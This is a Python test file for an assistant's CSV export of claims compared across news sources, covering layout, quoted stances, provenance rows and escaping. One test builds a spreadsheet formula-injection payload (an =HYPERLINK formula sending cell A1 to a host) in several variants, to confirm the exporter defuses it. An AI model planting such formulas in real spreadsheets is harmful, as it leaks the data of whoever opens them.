"""The CSV matrix: a row for each claim, a column for each source, and nothing that a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as some

from assistant.answering import INTERRUPTED
from assistant.collection import Collection
from assistant.export import render
from assistant.models import Notice, Source
from assistant.saved import Overruling, Record
from tests import compared
from tests.recorded import ADDED, ASKED, CLAIM, COMPARISON, CONVERSATION, JUDGED, TIDINGS_URL

TIDINGS, COURANT, POST, MESSENGER, WEEKLY, GAZETTE = (each.id for each in compared.ARTICLES)


def table(item: Record | Collection) -> list[dict[str, str]]:
    """The rows as a program reads them."""
    text = render(item, "csv")
    return list(csv.DictReader(io.StringIO(text.encode().decode("utf-8-sig"), newline=""), strict=True))


def test_it_is_utf_8_that_a_spreadsheet_takes_for_it_and_lines_end_as_the_standard_says() -> None:
    text = render(COMPARISON, "csv")
    assert text.encode().startswith(b"\xef\xbb\xbfrow,claim,finding,rule,")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")


def test_each_claim_has_a_row_and_each_source_a_column() -> None:
    rows = table(COMPARISON)
    assert [row["row"] for row in rows] == [
        "claim", "claim", "outlet", "title", "date", "url", "sha256", "added", "origin", "source",
    ]  # fmt: skip
    first = rows[0]
    assert (first["claim"], first["finding"], first["rule"]) == (
        compared.CLAIM, "Sources contradict each other", "own_voices_differ",
    )  # fmt: skip
    assert list(first)[4:6] == [
        "The Port Sabel Tidings, 10 October 2023",
        "Quayside Post, 11 October 2023",
    ], "those of one origin side by side"
    assert len(first) == 4 + len(compared.ARTICLES)


def test_a_cell_is_a_stance_with_the_words_that_show_it_and_where_they_stand() -> None:
    row = table(CLAIM)[0]
    assert row["The Ellmar Courant, 10 October 2023"] == (
        "Denies: “As of 10 p.m. on 9 October 41 people were injured, three gravely.” (characters 0 to 65)"
    )
    assert row["The Inland Messenger, 11 October 2023"] == (
        "Affirms and denies; the operator: “Nobody was injured.” (characters 48 to 69)"
    ), "a quoted party is named"
    assert row["Gull & Anchor Weekly, 12 October 2023"] == "Silent"
    texts = {each.outlet: each.text for each in compared.ARTICLES}
    for name, cell in row.items():
        if found := re.search(r"[:] (“.*”) \(characters (\d+) to (\d+)\)$", cell):
            stands = texts[name.rsplit(", ", 1)[0]][int(found[2]) : int(found[3])]
            assert found[1].strip("“”") == stands.strip("“”")


def test_the_facts_of_each_source_stand_below() -> None:
    rows = {row["row"]: row for row in table(CLAIM)}
    name = "The Port Sabel Tidings, 10 October 2023"
    assert rows["outlet"][name] == "The Port Sabel Tidings" and rows["date"][name] == "2023-10-10"
    assert rows["url"][name] == TIDINGS_URL and rows["added"][name] == ADDED
    assert rows["sha256"][name] == CLAIM.provenance.sources[TIDINGS].sha256
    assert rows["source"][name] == TIDINGS
    shared = {key for key, value in rows["origin"].items() if value == "shared origin 1"}
    assert shared == {name, "Quayside Post, 11 October 2023"}
    assert rows["date"]["The Ardan Gazette, undated"] == ""


def test_a_readers_stance_stands_beside_that_of_the_assistant() -> None:
    overrulings = (
        Overruling("stance", WEEKLY, "silent", "affirms", "r", "M", JUDGED),
        Overruling("stance", COURANT, "denies", "mixed", "r", "M", JUDGED),
    )
    row = table(replace(CLAIM, overrulings=overrulings))[0]
    assert row["Gull & Anchor Weekly, 12 October 2023"] == "Silent (reader: Affirms)"
    assert row["The Ellmar Courant, 10 October 2023"].startswith("Denies (reader: Affirms and denies): “As")


def test_questions_and_questions_without_an_answer_have_rows_too() -> None:
    rows = table(CONVERSATION)
    assert [(row["row"], row["finding"]) for row in rows[:4]] == [
        ("question", ""), ("no answer", "failed"), ("no answer", "interrupted"),
        ("claim", "Sources contradict each other"),
    ]  # fmt: skip
    assert "Not read" in rows[0].values(), "a source of another answer"


def test_an_answer_that_was_stopped_says_so() -> None:
    stopped = replace(CLAIM.answer, notices=(Notice("interrupted", INTERRUPTED),))
    row = table(replace(CLAIM, answer=stopped))[0]
    assert row["finding"] == f"Sources contradict each other. {INTERRUPTED}"


def test_two_sources_with_one_name_are_told_apart() -> None:
    answer = CLAIM.answer
    alike = {key: replace(each, outlet="Post", date="2023-10-10") for key, each in answer.sources.items()}
    names = list(table(replace(CLAIM, answer=replace(answer, sources=alike)))[0])[4:]
    assert len(set(names)) == len(names) == 6 and all(
        name.startswith("Post, 10 October 2023 (") for name in names
    )


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\n@", " =", "＝", "＋", "－", "＠"])
def test_no_cell_begins_a_formula(sign: str) -> None:
    text = f'{sign}HYPERLINK("http://127.0.0.1:9/"&A1,"x")'
    cells = [cell for row in cells_of(text) for cell in row]
    assert not [cell for cell in cells if cell.strip().startswith(tuple("=+-@＝＋－＠"))]
    assert [cell for cell in cells if cell.startswith(f"'{sign.strip()}")], "the text itself is kept"


@given(some.text(max_size=30))
def test_any_text_keeps_the_table_rectangular(text: str) -> None:
    rows = cells_of(text)
    assert len({len(row) for row in rows}) == 1 and len(rows) == 10
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r\n＝＋－＠")]


def cells_of(text: str) -> list[list[str]]:
    """The table of an answer that has `text` in every place that holds words of others."""
    answer = CLAIM.answer
    sources = {key: Source(key, text or None, text, None, text, None) for key in answer.sources}
    record = Record(replace(answer, question=text, rule=text, sources=sources), ASKED)
    written = render(record, "csv").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(written, newline=""), strict=True))


def test_one_answer_is_a_matrix_of_one_row() -> None:
    assert len(table(CLAIM)) == 1 + 8
    assert table(CLAIM)[0] == table(COMPARISON)[0]
